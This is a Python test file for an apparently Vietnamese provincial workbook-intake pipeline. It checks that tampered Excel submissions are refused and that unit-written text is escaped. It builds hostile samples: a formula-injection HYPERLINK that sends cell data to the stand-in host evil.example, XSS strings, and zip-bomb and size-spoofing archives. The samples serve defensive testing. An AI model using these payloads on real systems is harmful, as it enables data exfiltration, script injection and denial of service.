"""Hostile workbooks: what is scored is what the unit sees, sizes are bounded, a file cannot pass
for another unit's, and nothing a unit writes can attack whoever reads what the project writes.

Each workbook is Phường Tân Lập's (X-BMT-01) good 2024 file (tests/faults), changed one hostile
way with openpyxl (or its bytes), read as the intake reads it (``parse_file``).
"""

from __future__ import annotations

import struct
import tracemalloc
import unicodedata
import zipfile
from pathlib import Path

import polars as pl
import pytest
from faults import NAME, SHEET, UNIT, YEAR, edited, good_workbook, row_of
from intake_support import load, open_warehouse, sha256, submit, tiny_copy
from openpyxl import load_workbook

from pipelines.evaluate.appraisal import DIFFERENCE_COLUMNS, write_differences
from pipelines.framework.preset import Preset, load_preset
from pipelines.intake.ingest import ingest_year
from pipelines.intake.receipts import receipt_markdown
from pipelines.intake.submission_read import ParsedFile, parse_file
from pipelines.workbook.structure import MAX_UNPACKED_BYTES

W = f"{NAME} · trang '{SHEET}'"
P15 = row_of("P1.5")  # 85.5 in the good file, column G


@pytest.fixture(scope="module")
def preset() -> Preset:
    return load_preset("daklak")


def _read(preset: Preset, path: Path) -> ParsedFile:
    return parse_file(preset, path, YEAR)


def _refusals(parsed: ParsedFile) -> list[tuple]:
    return [
        (r["sheet"], r["row_number"], r["column_name"], r["rule"], r["message"])
        for r in parsed.workbook.rejected
    ]


def _values(parsed: ParsedFile) -> dict[str, float | None]:
    return {r["indicator_id"]: r["value"] for r in parsed.workbook.accepted}


def _patch_sheet(path: Path, change) -> Path:
    """Rewrite the self-assessment sheet's XML of ``path`` (``change(bytes) -> bytes``)."""
    member = "xl/worksheets/sheet2.xml"  # Hướng dẫn, Tự đánh giá, _meta
    with zipfile.ZipFile(path) as source:
        parts = [(info, source.read(info.filename)) for info in source.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in parts:
            out.writestr(info, change(data) if info.filename == member else data)
    return path


# --- what is scored is what the unit sees -----------------------------------------------------


def test_a_hidden_column_headed_like_the_value_column_refuses_the_file(
    tmp_path: Path, preset: Preset
) -> None:
    def change(book) -> None:
        sheet = book[SHEET]
        sheet.insert_cols(7)  # a new G before the real values (now H)
        sheet["G8"] = "Giá trị báo cáo"
        sheet[f"G{P15}"] = 999
        sheet.column_dimensions["G"].hidden = True

    parsed = _read(preset, edited(change)(tmp_path))
    assert parsed.refused
    assert _refusals(parsed) == [
        (
            SHEET,
            8,
            "G",
            "hidden_column",
            f"{W} · dòng 8 · cột G: cột G (tiêu đề 'Giá trị báo cáo') bị ẩn; chỉ đọc số liệu "
            "đơn vị nhìn thấy — bỏ ẩn cột, hoặc xóa cột nếu thừa",
        )
    ]


def test_a_hidden_sheet_named_like_the_self_assessment_refuses_the_file(
    tmp_path: Path, preset: Preset
) -> None:
    def change(book) -> None:
        visible = book[SHEET]
        visible.title = "Số liệu"
        hidden = book.copy_worksheet(visible)
        hidden.title = SHEET
        hidden[f"G{P15}"] = 999
        hidden.sheet_state = "hidden"

    parsed = _read(preset, edited(change)(tmp_path))
    assert parsed.refused
    assert _refusals(parsed) == [
        (
            SHEET,
            8,
            "B",
            "hidden_sheet",
            f"{W} · dòng 8 · cột B: trang '{SHEET}' bị ẩn nhưng chứa bảng số liệu (cột 'Mã chỉ "
            "số'); chỉ đọc số liệu đơn vị nhìn thấy — bỏ ẩn trang, hoặc xóa trang nếu thừa",
        )
    ]


def test_hidden_rows_with_values_are_refused_and_the_visible_row_is_read(
    tmp_path: Path, preset: Preset
) -> None:
    def change(book) -> None:
        sheet = book[SHEET]
        sheet["B64"], sheet["G64"] = "P1.5", 999  # a hidden repeat of P1.5 below the table
        sheet.row_dimensions[64].hidden = True
        sheet.row_dimensions[row_of("P1.4")].hidden = True  # P1.4 = 12, hidden

    parsed = _read(preset, edited(change)(tmp_path))
    assert not parsed.refused
    p14 = row_of("P1.4")
    assert _refusals(parsed) == [
        (
            SHEET,
            p14,
            "G",
            "hidden_row",
            f"{W} · dòng {p14} · cột G: dòng {p14} bị ẩn nhưng có nội dung ở cột G; chỉ đọc số "
            "liệu đơn vị nhìn thấy — bỏ ẩn dòng, hoặc xóa dòng nếu thừa",
        ),
        (
            SHEET,
            64,
            "G",
            "hidden_row",
            f"{W} · dòng 64 · cột G: dòng 64 bị ẩn nhưng có nội dung ở cột G; chỉ đọc số liệu "
            "đơn vị nhìn thấy — bỏ ẩn dòng, hoặc xóa dòng nếu thừa",
        ),
    ]
    values = _values(parsed)
    assert values["P1.5"] == 85.5  # the visible row, not the hidden 999
    assert "P1.4" not in values


def test_a_value_hidden_by_its_number_format_is_refused(tmp_path: Path, preset: Preset) -> None:
    parsed = _read(
        preset,
        edited(lambda book: setattr(book[SHEET][f"G{P15}"], "number_format", ";;;"))(tmp_path),
    )
    assert _refusals(parsed) == [
        (
            SHEET,
            P15,
            "G",
            "hidden_value",
            f"{W} · dòng {P15} · cột G: chỉ số P1.5: ô G{P15} có định dạng số ';;;' làm giá trị "
            "không hiện trên trang; chỉ đọc số liệu đơn vị nhìn thấy — bỏ định dạng đó (Format "
            "Cells → General)",
        )
    ]
    assert "P1.5" not in _values(parsed)


def test_a_formula_whose_stored_result_is_not_its_own_is_refused_at_the_cell(
    tmp_path: Path, preset: Preset
) -> None:
    path = edited(lambda book: book[SHEET].__setitem__(f"G{P15}", "=2+3"))(tmp_path)
    # openpyxl saves a formula without a result: store 999 as its result (=2+3 gives 5)
    _patch_sheet(path, lambda xml: xml.replace(b"<f>2+3</f><v />", b"<f>2+3</f><v>999</v>"))
    parsed = _read(preset, path)
    assert _refusals(parsed) == [
        (
            SHEET,
            P15,
            "G",
            "formula_result_mismatch",
            f"{W} · dòng {P15} · cột G: chỉ số P1.5: ô có công thức =2+3, kết quả lưu trong tệp "
            "là '999' nhưng công thức cho '5.0'; mở tệp bằng Excel, tính lại rồi lưu, hoặc nhập "
            "số trực tiếp",
        )
    ]
    assert "P1.5" not in _values(parsed)

    # the same formula stored with its own result is read as it shows
    honest = edited(lambda book: book[SHEET].__setitem__(f"G{P15}", "=2+3"))(tmp_path / "ok")
    _patch_sheet(honest, lambda xml: xml.replace(b"<f>2+3</f><v />", b"<f>2+3</f><v>5</v>"))
    parsed = _read(preset, honest)
    assert _refusals(parsed) == []
    assert _values(parsed)["P1.5"] == 5.0


def test_a_formula_that_cannot_be_evaluated_is_refused_and_a_checked_one_is_read(
    tmp_path: Path, preset: Preset
) -> None:
    p32 = row_of("P3.2")  # 60 in the good file; P3.1 (100) is on the row above

    def change(book) -> None:
        book[SHEET][f"G{P15}"] = "=NOSUCHFUNCTION(1)"
        book[SHEET][f"G{p32}"] = f"=G{p32 - 1}*0.6"

    path = edited(change)(tmp_path)
    _patch_sheet(
        path,
        lambda xml: xml.replace(
            b"<f>NOSUCHFUNCTION(1)</f><v />", b"<f>NOSUCHFUNCTION(1)</f><v>7</v>"
        ).replace(
            f"<f>G{p32 - 1}*0.6</f><v />".encode(), f"<f>G{p32 - 1}*0.6</f><v>60</v>".encode()
        ),
    )
    parsed = _read(preset, path)
    assert _refusals(parsed) == [
        (
            SHEET,
            P15,
            "G",
            "formula_unchecked",
            f"{W} · dòng {P15} · cột G: chỉ số P1.5: ô có công thức =NOSUCHFUNCTION(1) mà chương "
            "trình không tính lại được để đối chiếu kết quả lưu trong tệp (hàm không hỗ trợ, "
            "tham chiếu vòng hoặc ra tệp khác, hay tệp có quá nhiều công thức); nhập số trực tiếp",
        )
    ]
    assert _values(parsed)["P3.2"] == 60.0


# --- a file cannot pass for another unit's -----------------------------------------------------


def test_visible_unit_and_hidden_unit_must_agree(tmp_path: Path, preset: Preset) -> None:
    # the header shows Phường Tân Lập (X-BMT-01); _meta says Phường Tân Hòa (X-BMT-02)
    parsed = _read(
        preset, edited(lambda book: book["_meta"].__setitem__("B7", "X-BMT-02"))(tmp_path)
    )
    assert parsed.refused
    assert _refusals(parsed) == [
        (
            SHEET,
            2,
            "A",
            "identity_mismatch",
            f"{W} · dòng 2 · cột A: phần đầu trang ghi 'Đơn vị: Phường Tân Lập' (đơn vị "
            "X-BMT-01, cấp commune) nhưng trang ẩn '_meta' (dòng 7) ghi mã đơn vị 'X-BMT-02' "
            "(Phường Tân Hòa), cấp 'commune'; tệp phải là của đúng đơn vị, cấp và năm — tải lại "
            "mẫu của đơn vị và nhập lại, không sửa phần đầu trang hay trang ẩn",
        )
    ]
    assert parsed.workbook.accepted == []


def test_visible_level_and_hidden_level_must_agree(tmp_path: Path, preset: Preset) -> None:
    # _meta made consistently into the city's (district level) file; the header shows the commune
    def change(book) -> None:
        meta = book["_meta"]
        meta["B3"], meta["B6"], meta["B7"] = "daklak-2534-district", "district", "H-BMT"

    parsed = _read(preset, edited(change)(tmp_path))
    assert parsed.refused
    assert _refusals(parsed) == [
        (
            SHEET,
            2,
            "A",
            "identity_mismatch",
            f"{W} · dòng 2 · cột A: phần đầu trang ghi 'Đơn vị: Phường Tân Lập' (đơn vị "
            "X-BMT-01, cấp commune) nhưng trang ẩn '_meta' (dòng 7) ghi mã đơn vị 'H-BMT' "
            "(Thành phố Buôn Ma Thuột), cấp 'district'; tệp phải là của đúng đơn vị, cấp và năm "
            "— tải lại mẫu của đơn vị và nhập lại, không sửa phần đầu trang hay trang ẩn",
        )
    ]


def test_visible_year_and_hidden_year_must_agree(tmp_path: Path, preset: Preset) -> None:
    title = "BẢNG TỰ ĐÁNH GIÁ CHỈ SỐ CHUYỂN ĐỔI SỐ NĂM 2023"
    parsed = _read(preset, edited(lambda book: book[SHEET].__setitem__("A1", title))(tmp_path))
    assert _refusals(parsed) == [
        (
            SHEET,
            1,
            "A",
            "identity_mismatch",
            f"{W} · dòng 1 · cột A: phần đầu trang ghi '{title}' nhưng trang ẩn '_meta' (dòng 8) "
            "ghi năm 2024; tệp phải là của đúng đơn vị, cấp và năm — tải lại mẫu của đơn vị và "
            "nhập lại, không sửa phần đầu trang hay trang ẩn",
        )
    ]


# --- bounded sizes ------------------------------------------------------------------------------


def test_a_cell_longer_than_excel_allows_is_refused(tmp_path: Path, preset: Preset) -> None:
    # openpyxl itself cuts text at Excel's limit: the long text is written into the XML
    path = edited(lambda book: book[SHEET].__setitem__(f"I{P15}", "LONG-EVIDENCE"))(tmp_path)
    _patch_sheet(path, lambda xml: xml.replace(b"LONG-EVIDENCE", b"x" * 40_000))
    parsed = _read(preset, path)
    assert _refusals(parsed) == [
        (
            SHEET,
            P15,
            "I",
            "text_too_long",
            f"{W} · dòng {P15} · cột I: ô I{P15} có 40.000 ký tự, vượt giới hạn 32.767 ký tự "
            "của một ô Excel",
        )
    ]
    assert "P1.5" not in _values(parsed)
    assert all(len(r["message"]) < 500 for r in parsed.workbook.rejected)


def test_a_zip_bomb_is_refused_before_it_is_decompressed(tmp_path: Path, preset: Preset) -> None:
    path = good_workbook(tmp_path / NAME)
    padding = b" " * (MAX_UNPACKED_BYTES + 1)
    _patch_sheet(path, lambda xml: xml.replace(b"</worksheet>", padding + b"</worksheet>"))
    assert path.stat().st_size < 200_000  # tiny on disk
    with zipfile.ZipFile(path) as archive:
        unpacked = sum(i.file_size for i in archive.infolist())
    assert unpacked > MAX_UNPACKED_BYTES
    parsed = _read(preset, path)
    shown = f"{unpacked:,}".replace(",", ".")
    assert _refusals(parsed) == [
        (
            "",
            0,
            "",
            "file_too_large",
            f"{NAME}: tệp giải nén ra {shown} byte, vượt giới hạn 20.971.520 byte của một tệp "
            "số liệu; xóa nội dung thừa (ảnh, trang không thuộc mẫu) rồi gửi lại",
        )
    ]


def test_a_part_holding_more_than_it_declares_is_refused_without_unpacking_it(
    tmp_path: Path, preset: Preset
) -> None:
    path = good_workbook(tmp_path / NAME)
    member = b"xl/worksheets/sheet2.xml"
    _patch_sheet(path, lambda xml: xml.replace(b"</worksheet>", b" " * 2**25 + b"</worksheet>"))
    data = bytearray(path.read_bytes())
    # declare 10 kB instead of 32 MB, in the part's local header and in the central directory
    for header, offset, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = data.find(header)
        while at >= 0:
            if data[at + offset : at + offset + len(member)] == member:
                struct.pack_into("<I", data, at + size_at, 10_000)
            at = data.find(header, at + 1)
    path.write_bytes(bytes(data))
    tracemalloc.start()
    parsed = _read(preset, path)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert _refusals(parsed) == [
        (
            "",
            0,
            "",
            "unreadable_file",
            f"{NAME}: không đọc được tệp Excel (phần 'xl/worksheets/sheet2.xml' bị hỏng: "
            "BadZipFile: Bad CRC-32 for file 'xl/worksheets/sheet2.xml')",
        )
    ]
    assert peak < 8 * 2**20  # never the 32 MB the part holds


# --- located right ------------------------------------------------------------------------------


def test_a_deleted_self_assessment_sheet_is_named(tmp_path: Path, preset: Preset) -> None:
    parsed = _read(preset, edited(lambda book: book.remove(book[SHEET]))(tmp_path))
    assert _refusals(parsed) == [
        (
            "",
            0,
            "",
            "missing_sheet",
            f"{NAME}: thiếu trang '{SHEET}' (không trang nào nhìn thấy được có bảng với cột 'Mã "
            "chỉ số'); dùng mẫu DTI của năm, không xóa hay đổi tên trang",
        )
    ]


def test_a_decomposed_file_name_is_stored_composed(tmp_path: Path, preset: Preset) -> None:
    composed = "Phường Tân Lập 2024.xlsx"
    decomposed = unicodedata.normalize("NFD", composed)
    assert decomposed != composed
    path = edited(lambda book: book[SHEET].__setitem__(f"G{P15}", "khoảng 80"))(tmp_path)
    path = path.rename(path.with_name(decomposed))
    parsed = _read(preset, path)
    assert parsed.workbook.file_name == composed
    assert [r["file_name"] for r in parsed.workbook.rejected] == [composed]
    assert parsed.workbook.rejected[0]["message"].startswith(f"{composed} · trang '{SHEET}'")


def test_the_warehouse_stores_a_decomposed_file_name_composed(tmp_path: Path) -> None:
    preset = load(tiny_copy(tmp_path))
    con = open_warehouse(preset)
    composed = "Sở Thử A – tự đánh giá.xlsx"
    submit(
        preset, tmp_path / "inbox", "S-A", {"P1.1": 80.0}, unicodedata.normalize("NFD", composed)
    )
    ingest_year(con, preset, YEAR, tmp_path / "inbox", tmp_path / "archive")
    stored = con.execute("SELECT file_name FROM submissions").fetchall()
    con.close()
    assert stored == [(composed,)]


# --- nothing a unit writes can attack a reader ---------------------------------------------------


def test_the_appraisal_report_neutralises_formulas_in_csv_and_xlsx(tmp_path: Path) -> None:
    reason = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    row = {key: None for key in DIFFERENCE_COLUMNS}
    row.update(
        year=2024,
        level="commune",
        unit_id=UNIT,
        unit_name="@SUM(1+1)",
        indicator_id="P1.5",
        self_value=85.5,
        appraised_value=-3.0,
        reason=reason,
        appraisal_file="-2+3.xlsx",
    )
    frame = pl.DataFrame([row], schema={k: t for k, (_, t) in DIFFERENCE_COLUMNS.items()})
    csv_text = write_differences(frame, tmp_path / "x.csv").read_text(encoding="utf-8-sig")
    line = csv_text.splitlines()[1]
    assert ",'@SUM(1+1)," in line
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"' in line
    assert ",'-2+3.xlsx" in line
    assert ",-3.0," in line  # numbers stay numbers
    book = load_workbook(write_differences(frame, tmp_path / "x.xlsx", "t"))
    cells = {c.value: c.data_type for r in book.active.iter_rows(min_row=4) for c in r if c.value}
    assert cells["'" + reason] == "s"
    assert cells["'@SUM(1+1)"] == "s"
    assert not any(isinstance(v, str) and v.startswith(("=", "@", "+")) for v in cells)


def test_a_receipt_escapes_what_the_unit_wrote(tmp_path: Path) -> None:
    preset = load(tiny_copy(tmp_path))
    con = open_warehouse(preset)
    path = submit(preset, tmp_path / "inbox", "S-A", {"P1.1": 80.0, "P1.2": 1.0, "P2.1": 4.0})
    book = load_workbook(path)
    book[SHEET]["G9"] = "<img src=x onerror=alert(1)>"
    book[SHEET]["I10"] = "<script>alert(1)</script> [x](javascript:alert(1)) | `a`"
    book.save(path)
    ingest_year(con, preset, YEAR, tmp_path / "inbox", tmp_path / "archive")
    text = receipt_markdown(con, sha256(path))
    con.close()
    assert "<script" not in text and "<img" not in text and "[x](" not in text
    assert (
        "chỉ số P1.1: '&lt;img src=x onerror=alert(1)&gt;' không phải là số "
        "*(quy tắc `not_a_number`)*"
    ) in text
    assert (
        "| &lt;script&gt;alert(1)&lt;/script&gt; \\[x\\](javascript:alert(1)) \\| \\`a\\` |"
    ) in text
